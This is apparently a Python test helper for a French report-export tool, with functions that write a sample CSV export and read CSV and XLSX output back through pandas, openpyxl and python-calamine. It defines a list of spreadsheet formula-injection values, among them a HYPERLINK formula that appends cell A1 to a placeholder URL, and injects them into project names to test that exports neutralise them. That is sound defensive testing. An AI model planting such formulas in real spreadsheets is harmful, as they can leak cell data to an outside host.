"""Reports read back by independent readers (pandas, openpyxl, python-calamine), and the exports they come
from: shared by the report tests and the `report` command's tests."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
from python_calamine import CalamineWorkbook

from tests.conftest import EXPORTS

BOM = b"\xef\xbb\xbf"
HOSTILE_PROJECTS = (
    '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝1+1",
    "<r><t>balise</t></r>",
)


def write_export(path: Path, edit=None) -> Path:
    """ds_standard.csv, each data row passed through edit(row, header) -> row (labels: first match)."""
    with open(EXPORTS / "ds_standard.csv", encoding="utf-8", newline="") as f:
        header, *rows = list(csv.reader(f))
    if edit:
        rows = [edit(list(row), header) for row in rows]
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([header, *rows])
    return path


def with_hostile_projects(row: list[str], header: list[str]) -> list[str]:
    i = int(row[0]) - 11000001
    row[header.index("Nom du projet")] = HOSTILE_PROJECTS[i % len(HOSTILE_PROJECTS)]
    return row


def read_csv_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype="str", keep_default_na=False, na_values=[""])


def read_excel_csv_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(
        io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig", keep_default_na=False, na_values=[""]
    )


def xlsx_sheets_openpyxl(data: bytes) -> dict[str, list[list]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}


def xlsx_sheets_calamine(data: bytes) -> dict[str, list[list]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
